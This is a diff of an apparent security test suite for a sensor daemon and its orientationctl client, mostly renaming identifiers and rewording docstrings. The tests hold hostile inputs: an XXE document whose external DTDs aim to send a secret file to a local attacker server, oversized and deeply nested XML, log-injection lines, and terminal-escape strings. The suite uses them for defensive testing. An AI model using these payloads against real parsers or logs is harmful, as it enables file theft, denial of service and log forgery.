@@ -10,7 +10,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import varlink
-from attack import FAILS, Attack, Place, Target
+from attack import FAILS, Attack, Environment, Target
 from attacks.tables import hoard
 from board import Board, Fetches, context, plain
 from daemon import Daemon
@@ -24,8 +24,8 @@ HUGE = 400_000_000
 # The timeout of `orientationctl` in seconds.
 TIMEOUT = 20
 # CSI as a C1 character, a bidirectional override and isolate, a line separator.
-EVIL = "&#x9b;31m&#x202e;&#x2066;&#x2028;"
-EVIL_READING = b"\x1b]0;owned\x07\x9b31m<0>owned\n<0>owned"
+CONTROL = "&#x9b;31m&#x202e;&#x2066;&#x2028;"
+CONTROL_READING = b"\x1b]0;owned\x07\x9b31m<0>owned\n<0>owned"
 
 
 def follow(target: Target) -> None:
@@ -39,7 +39,7 @@ def follow(target: Target) -> None:
 
 
 @contextlib.contextmanager
-def with_board(place: Place, board: Board, fetches: Fetches | None = None) -> Iterator[Daemon]:
+def with_board(environment: Environment, board: Board, fetches: Fetches | None = None) -> Iterator[Daemon]:
     def serve() -> None:
         if fetches:
             threading.Thread(target=fetches.serve, daemon=True).start()
@@ -47,23 +47,23 @@ def with_board(place: Place, board: Board, fetches: Fetches | None = None) -> It
 
     server = Child(ATTACKER + 100, serve)
     board.listener.close()
-    daemon = Daemon(place.programs, place.folder, ("--sensor", f"iio:ip:127.0.0.1:{board.port}"))
+    daemon = Daemon(environment.programs, environment.folder, ("--sensor", f"iio:ip:127.0.0.1:{board.port}"))
     try:
         yield daemon
     finally:
         ended = daemon.end()
-        place.expect(not ended, ended)
+        environment.expect(not ended, ended)
         server.end()
 
 
 @contextlib.contextmanager
-def external(place: Place) -> Iterator[Daemon]:
+def external(environment: Environment) -> Iterator[Daemon]:
     """A document type on the attacker's server, with entities that send a file of the daemon's user there."""
-    secret = place.folder / "secret"
+    secret = environment.folder / "secret"
     secret.write_text(SECRET)
     os.chown(secret, DAEMON, DAEMON)
     secret.chmod(0o600)
-    note = place.folder / "fetches"
+    note = environment.folder / "fetches"
     note.touch()
     os.chown(note, ATTACKER + 100, ATTACKER + 100)
     fetches = Fetches(note, lambda port: (
@@ -72,14 +72,14 @@ def external(place: Place) -> Iterator[Daemon]:
     board = Board(lambda: (
         f'<?xml version="1.0"?><!DOCTYPE context SYSTEM "http://127.0.0.1:{fetches.port}/x.dtd" [<!ENTITY % more SYSTEM '
         f'"http://127.0.0.1:{fetches.port}/y.dtd">%more;]><context name="network">&send;</context>').encode())
-    with with_board(place, board, fetches) as daemon:
+    with with_board(environment, board, fetches) as daemon:
         yield daemon
 
 
-def nothing_was_fetched(place: Place, daemon: Daemon) -> None:
-    fetched = (place.folder / "fetches").read_text()
-    place.expect(SECRET not in fetched, "a file of the daemon's user was sent to the attacker")
-    place.expect(not fetched, f"libxml2 fetched {len(fetched.splitlines())} times: {fetched.splitlines()[:1]}")
+def nothing_was_fetched(environment: Environment, daemon: Daemon) -> None:
+    fetched = (environment.folder / "fetches").read_text()
+    environment.expect(SECRET not in fetched, "a file of the daemon's user was sent to the attacker")
+    environment.expect(not fetched, f"libxml2 fetched {len(fetched.splitlines())} times: {fetched.splitlines()[:1]}")
 
 
 def bomb() -> bytes:
@@ -98,20 +98,20 @@ def deep() -> bytes:
     return b'<context name="network">' + b"<device>" * 100_000 + b"</device>" * 100_000 + b"</context>"
 
 
-def shouting() -> bytes:
-    """Return XML with errors that libxml2 prints to standard error with their lines, which have the journal's prefix of
-    emergencies."""
+def invalid_xml() -> bytes:
+    """Return invalid XML. libxml2 prints the invalid lines to standard error; they begin with the journal's prefix of an
+    emergency."""
     return b'<?xml version="1.0"?>\n<context>\n<0>owned: \x1b[31m\n<0>owned &nothing; <a b=c></context>'
 
 
 def slow() -> bytes:
-    """Most of the time the daemon waits for this, with its memory limited."""
+    """Return the context after 4 s, for which the daemon waits while its memory limit is in force."""
     time.sleep(4)
     return context()
 
 
 def follow_or_fill(target: Target) -> None:
-    """One attacker follows, the others fill what is held for clients."""
+    """Subscribe as one attacker, and fill the buffers for clients as the others."""
     if target.number:
         hoard(target)
     else:
@@ -119,31 +119,31 @@ def follow_or_fill(target: Target) -> None:
 
 
 def serving(xml: Callable[[], bytes], read: Callable[[str], bytes] = plain) -> Callable:
-    return lambda place: with_board(place, Board(xml, read))
+    return lambda environment: with_board(environment, Board(xml, read))
 
 
-def memory_is_bounded(place: Place, daemon: Daemon) -> None:
-    place.expect(daemon.peak() < CONTEXT, f"the context took {daemon.peak()} KiB")
-    place.remarks.append(f"peak {daemon.peak()} KiB")
+def memory_is_bounded(environment: Environment, daemon: Daemon) -> None:
+    environment.expect(daemon.peak() < CONTEXT, f"the context took {daemon.peak()} KiB")
+    environment.remarks.append(f"peak {daemon.peak()} KiB")
 
 
-def log_is_clean(place: Place, daemon: Daemon) -> None:
+def log_is_clean(environment: Environment, daemon: Daemon) -> None:
     lines = daemon.log.read_bytes().split(b"\n")
-    place.expect(not any(line.startswith(b"<") for line in lines), "a log line starts with a priority from the board")
+    environment.expect(not any(line.startswith(b"<") for line in lines), "a log line starts with a priority from the board")
     found = raw_control_characters(daemon.log.read_bytes())
-    place.expect(not found, f"the log has raw control characters: {found}")
+    environment.expect(not found, f"the log has raw control characters: {found}")
 
 
-def tool_is_clean(place: Place, daemon: Daemon) -> None:
+def tool_is_clean(environment: Environment, daemon: Daemon) -> None:
     """Check the log and the output of root's commands."""
-    log_is_clean(place, daemon)
+    log_is_clean(environment, daemon)
     for words in (["sensors"], ["sensors", "--json"], ["status"], ["status", "--json"], ["doctor"], ["doctor", "--json"],
                   ["watch", "--count", "1", "--plain"], ["record", "--duration", "1", "-"]):
-        done = subprocess.run([place.programs / "orientationctl", "--socket", daemon.path, *words],
+        done = subprocess.run([environment.programs / "orientationctl", "--socket", daemon.path, *words],
                               stdin=subprocess.DEVNULL, capture_output=True, timeout=TIMEOUT)
-        place.expect(done.returncode >= 0, f"orientationctl {' '.join(words)} ended with signal {-done.returncode}")
+        environment.expect(done.returncode >= 0, f"orientationctl {' '.join(words)} ended with signal {-done.returncode}")
         found = raw_control_characters(done.stdout + done.stderr)
-        place.expect(not found, f"orientationctl {' '.join(words)} prints {found}")
+        environment.expect(not found, f"orientationctl {' '.join(words)} prints {found}")
 
 
 ROWS = [
@@ -152,10 +152,11 @@ ROWS = [
     Attack("board: 400 MB of XML", follow, stage=serving(huge), seconds=8, after=memory_is_bounded),
     Attack("board: 100000 levels of XML", follow, stage=serving(deep), after=memory_is_bounded),
     Attack("board: a slow context, full buffers", follow_or_fill, stage=serving(slow), attackers=12, seconds=8),
-    Attack("board: lines for the log", follow, stage=serving(shouting), after=log_is_clean),
-    Attack("board: control characters", follow, stage=serving(lambda: context(EVIL, EVIL)), during=tool_is_clean, rounds=1),
+    Attack("board: lines for the log", follow, stage=serving(invalid_xml), after=log_is_clean),
+    Attack("board: control characters", follow, stage=serving(lambda: context(CONTROL, CONTROL)),
+           during=tool_is_clean, rounds=1),
     Attack("board: readings of control characters", follow,
-           stage=serving(context, lambda name: EVIL_READING), during=tool_is_clean, rounds=1),
+           stage=serving(context, lambda name: CONTROL_READING), during=tool_is_clean, rounds=1),
     Attack("board: extreme readings", follow,
            stage=serving(context, lambda name: b"1e308" if "scale" in name else b"-9223372036854775808"),
            during=tool_is_clean, rounds=1),
